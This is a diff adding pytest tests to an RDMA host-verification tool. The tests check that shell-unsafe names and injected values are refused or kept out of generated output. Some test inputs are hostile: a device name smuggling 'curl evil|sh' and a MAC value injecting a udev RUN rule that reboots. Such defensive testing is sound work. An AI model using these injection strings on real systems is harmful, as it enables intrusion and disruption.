@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Mapping
+import threading
+import time
+from collections.abc import Callable, Mapping
 from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
@@ -12,7 +14,7 @@ from typing import Any
 import pytest
 
 from agent.host.rdma import rdma
-from optics import Garbled, Unreachable
+from optics import Garbled, HostPort, Unreachable
 from orchestrator.inventory.hosts import Host
 from orchestrator.verify import rdma_reach
 from orchestrator.verify.doctor_reach import in_one
@@ -207,6 +209,38 @@ def test_what_is_no_answer_of_the_agent_is_refused(line: str) -> None:
         read_tables(line)
 
 
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"devices": {"x;curl evil|sh": {"1": {"state": "", "interfaces": [], "gids": []}}}},
+        {"devices": {"-x": {"1": {"state": "", "interfaces": [], "gids": []}}}},
+        {"devices": {"qedr0": {"1": {"state": "", "interfaces": ["a'b"], "gids": []}}}},
+        {"interfaces": {"a b": ["", True]}},
+        {"interfaces": {"x" * 16: ["", True]}},
+        {"interfaces": {'a"b': ["", True]}},
+        {"provisioned": {"../net": MACS[1]}},
+    ],
+)
+def test_names_that_a_shell_reads_otherwise_are_refused(
+    tmp_path: Path, more: Mapping[str, Any]
+) -> None:
+    with pytest.raises(Garbled, match="rdma"):
+        tables(as_provisioned(tmp_path, 1), **more)
+
+
+def test_a_mac_address_that_is_none_does_not_come_into_what_is_to_be_typed(tmp_path: Path) -> None:
+    evil = '", RUN+="/bin/sh -c reboot'
+    given = {"interfaces": {"enp9s0": [evil, True]}, "provisioned": {"pp1rdma": evil}}
+    found = tables(as_provisioned(tmp_path, 2), **given)
+    assert evil not in str(port_faults(HOST, found, {})) and found.macs == {"enp9s0": ""}
+
+
+def test_of_many_names_a_few_are_told(tmp_path: Path) -> None:
+    many = {f"eth{number}": ["", True] for number in range(4000)}
+    told = texts(tables(as_provisioned(tmp_path), interfaces=many, provisioned={}))
+    assert told[0].endswith("eth1003, and 3992 more"), told[0][:300]
+
+
 def test_hosts_without_fault_share_a_line_of_doctor(tmp_path: Path) -> None:
     fine = tables_probe(HOST, tables(as_provisioned(tmp_path / "a", 1, 2)), {})
     bad = tables_probe(replace(HOST, name="gpu03"), tables(as_provisioned(tmp_path / "b", 1)), {})
@@ -229,9 +263,23 @@ async def test_hosts_that_do_not_say_are_named_beside_those_that_do(
 
     monkeypatch.setattr(rdma_reach, "_tables", answer)
     hosts = [HOST, replace(HOST, name="gpu02"), replace(HOST, name="gpu03", forwarding="kernel")]
-    told, unread = await rdma_reach.rdma_faults(hosts, {})
+    used = {HostPort("gpu01", 2), HostPort("gpu02", 1)}
+    told, unread = await rdma_reach.rdma_faults(hosts, {}, used)
     assert list(told) == ["gpu01"] and told["gpu01"][0].startswith("p2: no interface pp2rdma")
     assert unread == ("RDMA tables: gpu02: no answer",)
+    told, _ = await rdma_reach.rdma_faults(hosts, {}, {HostPort("gpu01", 1)})
+    assert told == {"gpu01": ()}, "no planned link leads to port 2"
+
+
+def speaking(recv: Callable[[int], bytes]) -> Any:
+    """A connection to a host that answers so until the channel is closed."""
+    closed = threading.Event()
+    channel = SimpleNamespace(
+        exec_command=lambda _: None,
+        recv=lambda most: b"" if closed.is_set() else recv(most),
+        close=closed.set,
+    )
+    return SimpleNamespace(open_session=lambda timeout: channel)
 
 
 @pytest.mark.parametrize(
@@ -244,21 +292,27 @@ async def test_hosts_that_do_not_say_are_named_beside_those_that_do(
 def test_a_host_that_prints_nothing_is_a_warning_with_a_way_on(
     printed: bytes | Exception, fix: str
 ) -> None:
-    class Answer:
-        def __enter__(self) -> Answer:
-            return self
+    def recv(_: int) -> bytes:
+        if isinstance(printed, Exception):
+            raise printed
+        return printed
 
-        def __exit__(self, *_: object) -> None: ...
-
-        def read(self, _: int) -> bytes:
-            if isinstance(printed, Exception):
-                raise printed
-            return printed
-
-    channel = SimpleNamespace(
-        settimeout=lambda _: None, exec_command=lambda _: None, makefile=lambda _: Answer()
-    )
-    transport: Any = SimpleNamespace(open_session=lambda timeout: channel)
+    transport = speaking(recv)
     (probe,) = rdma_reach.probes(transport, HOST, {})
     assert (probe.name, probe.state, probe.fix) == ("RDMA of gpu01", "warn", fix)
     assert rdma_reach.probes(transport, replace(HOST, forwarding="kernel"), {}) == []
+
+
+def test_a_host_that_prints_without_end_is_heard_for_a_time_and_to_a_size(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    with pytest.raises(Garbled):
+        rdma_reach.asked(speaking(lambda most: b"x" * most), "gpu01")
+    monkeypatch.setattr(rdma_reach, "ANSWER_S", 0.05)
+
+    def drip(_: int) -> bytes:
+        time.sleep(0.001)
+        return b"x"
+
+    with pytest.raises(Unreachable, match=r"in 0.05 s: TimeoutError"):
+        rdma_reach.asked(speaking(drip), "gpu01")
